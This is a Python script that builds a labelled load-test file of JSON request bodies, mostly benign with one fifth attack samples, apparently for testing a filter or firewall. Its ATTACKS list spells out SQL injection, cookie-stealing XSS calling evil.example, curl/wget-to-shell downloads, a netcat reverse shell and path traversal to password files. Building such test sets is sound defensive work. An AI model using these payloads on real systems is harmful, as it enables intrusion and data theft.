#!/usr/bin/env python3
"""Generates the load-test payload list: 1 KiB JSON bodies, 80% benign, 20% attacks.

Output: payloads/load-1k.tsv, one payload a line: `label<TAB>category<TAB>body`,
where body is compact JSON (tabs and newlines are escaped by the encoder, so a
line is always one payload). The wrk script cycles through the lines in order.

Deterministic (fixed seed, fixed word lists): re-running it gives the same file.
"""

import json
import os
import random
import sys

TARGET = 1024  # bytes per body, give or take a few
N_BENIGN = 80
N_ATTACK = 20

FIRST = ["Siobhan", "Patrick", "Zoë", "Jürgen", "Amélie", "Axel", "Mary-Kate", "Dmitri",
         "Aoife", "Conor", "Renée", "Hiroshi", "Fatima", "Björn", "Lucía", "Noah"]
LAST = ["O'Brien", "D'Angelo", "Müller", "Smith-Jones", "O'Connor", "Nguyen", "García",
        "Łukasiewicz", "Van der Berg", "MacDonald", "Okafor", "Dubois"]
STREETS = ["Union Street", "Select Avenue", "Drop Lane", "Market Road", "Rue de l'Église",
           "Hauptstraße", "Order Close", "Exec Way"]
STATES = ["OR", "WA", "CA", "NY", "TX", "IN", "ME", "OK"]
SENTENCES = [
    "Please select the blue one and update my order when you can.",
    "Tom & Jerry was my favourite show; I'd watch it every Saturday.",
    "We're meeting at the Workers' Union hall at 7pm, don't be late!",
    "Can you drop the table reservation for Friday? We'll come Saturday instead.",
    "The script for the school play is attached, let me know what you think.",
    "My daughter's name is Zoë, it's spelled with a diaeresis.",
    "Delete my old address from the profile, I moved to Portland, OR last month.",
    "Order #4411 arrived damaged: the box was crushed and one cup is broken.",
    "Is it 1 or 2 tablespoons? The recipe says 1-2 but that's a bit vague.",
    "I tried to run the update but it said 'permission denied' on my laptop.",
    "Where can I find the terms & conditions for the loyalty programme?",
    "Great service -- the courier even waited while I found my keys.",
    "C'est l'hôtel qu'on a réservé l'été dernier, près de la gare.",
    "Die Lieferung kam pünktlich, aber die Rechnung fehlt (Bestellung 88/2026).",
    "Could you please ignore my previous email? I sent it by mistake.",
    "The path on my invoice reads Accounts/2026/Q3, is that right?",
    "50% off if you order before 5pm; use code SPRING-26 at checkout.",
    "Select count of attendees: about 40, maybe 45 with the kids.",
]
TAGS = ["gift", "urgent", "repeat-customer", "newsletter", "b2b", "fragile", "eco", "vip"]

# Attack payloads as they reach a server inside JSON strings, with common encodings.
ATTACKS = [
    ("sqli", "' OR '1'='1' -- "),
    ("sqli", "1 UNION SELECT username, password FROM users--"),
    ("sqli", "1%27%20UNION%20SELECT%20NULL%2Cversion()--%20"),
    ("sqli", "admin'/**/UN/**/ION/**/SEL/**/ECT/**/1,2,3#"),
    ("sqli", "1; DROP TABLE orders; --"),
    ("xss", "<script>alert(document.cookie)</script>"),
    ("xss", "<img src=x onerror=alert(1)>"),
    ("xss", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("xss", "<svg/onload=alert(1)>"),  # sent as \u003c...\u003e escapes inside the JSON string
    ("xss", "%3Cscript%3Efetch('//evil.example/'+document.cookie)%3C%2Fscript%3E"),
    ("cmdi", "; cat /etc/passwd"),
    ("cmdi", "$(curl -s http://evil.example/x.sh | sh)"),
    ("cmdi", "`id`; uname -a"),
    ("cmdi", "| nc -e /bin/sh 10.0.0.1 4444"),
    ("cmdi", "%3B%20wget%20http%3A%2F%2Fevil.example%2Fbot%20-O-%7Csh"),
    ("path", "../../../../etc/passwd"),
    ("path", "..%2f..%2f..%2f..%2fetc%2fshadow"),
    ("path", "%252e%252e%252f%252e%252e%252fwindows%252fwin.ini"),
    ("path", "....//....//....//etc/passwd"),
    ("path", "..\\..\\..\\boot.ini"),
]


def pad_to(obj: dict, rng: random.Random) -> str:
    """Adds filler sentences to obj["notes"] until the body is about TARGET bytes."""
    notes = []
    obj["notes"] = notes
    body = json.dumps(obj, ensure_ascii=False, separators=(",", ":"))
    while len(body.encode()) < TARGET - 80:
        notes.append(rng.choice(SENTENCES))
        body = json.dumps(obj, ensure_ascii=False, separators=(",", ":"))
    # Fine padding with a benign reference string.
    missing = TARGET - len(body.encode()) - len(',"ref":""')
    if missing > 0:
        obj["ref"] = "".join(rng.choice("abcdefghjkmnpqrstuvwxyz23456789") for _ in range(missing))
    return json.dumps(obj, ensure_ascii=False, separators=(",", ":"))


def benign(rng: random.Random, i: int) -> str:
    first, last = rng.choice(FIRST), rng.choice(LAST)
    kind = i % 4
    if kind == 0:
        obj = {"type": "profile_update", "user_id": 10000 + i,
               "name": f"{first} {last}", "email": f"{first.lower()[:3]}.{i}@example.com",
               "address": {"street": f"{rng.randint(1, 999)} {rng.choice(STREETS)}",
                           "city": "Portland", "state": rng.choice(STATES),
                           "zip": f"{rng.randint(10000, 99999)}"}}
    elif kind == 1:
        obj = {"type": "order", "order_id": f"A-{rng.randint(100000, 999999)}",
               "items": [{"sku": f"SKU-{rng.randint(1000, 9999)}", "qty": rng.randint(1, 4),
                          "price": round(rng.uniform(2, 90), 2)} for _ in range(rng.randint(1, 4))],
               "tags": rng.sample(TAGS, 2), "gift_message": rng.choice(SENTENCES)}
    elif kind == 2:
        obj = {"type": "comment", "thread": rng.randint(1, 500), "author": f"{first} {last}",
               "text": " ".join(rng.sample(SENTENCES, 3))}
    else:
        obj = {"type": "search", "q": rng.choice(["O'Brien & sons", "tom & jerry dvd",
                                                  "select lamp 40w", "union jack flag",
                                                  "rock 'n' roll t-shirt", "1/2 inch drill bit"]),
               "page": rng.randint(1, 9), "sort": "relevance",
               "filters": {"price_max": rng.randint(10, 300), "in_stock": True}}
    return pad_to(obj, rng)


def attack(rng: random.Random, i: int) -> tuple[str, str]:
    category, payload = ATTACKS[i % len(ATTACKS)]
    first, last = rng.choice(FIRST), rng.choice(LAST)
    field = ["name", "comment", "q", "file"][i % 4]
    obj = {"type": rng.choice(["profile_update", "comment", "search", "download"]),
           "user_id": 20000 + i, "author": f"{first} {last}", field: payload}
    body = pad_to(obj, rng)
    if payload.startswith("<svg"):
        # JSON unicode escapes: only a decoder that parses the JSON sees the tag.
        body = body.replace("<", "\\u003c").replace(">", "\\u003e")
    return category, body


def main() -> int:
    rng = random.Random(20261123)
    rows = [("benign", "benign", benign(rng, i)) for i in range(N_BENIGN)]
    rows += [("attack", *attack(rng, i)) for i in range(N_ATTACK)]
    # Interleave deterministically so every window of the cycle has the same mix.
    benign_rows, attack_rows = rows[:N_BENIGN], rows[N_BENIGN:]
    ratio = N_BENIGN // N_ATTACK
    out = []
    for i, a in enumerate(attack_rows):
        out.extend(benign_rows[i * ratio:(i + 1) * ratio])
        out.append(a)
    out.extend(benign_rows[len(attack_rows) * ratio:])
    here = os.path.dirname(os.path.abspath(__file__))
    path = os.path.join(here, "payloads", "load-1k.tsv")
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w", encoding="utf-8") as f:
        for label, cat, body in out:
            assert "\t" not in body and "\n" not in body
            json.loads(body)
            f.write(f"{label}\t{cat}\t{body}\n")
    sizes = [len(b.encode()) for _, _, b in out]
    print(f"wrote {path}: {len(out)} payloads, {min(sizes)}-{max(sizes)} bytes", file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main())
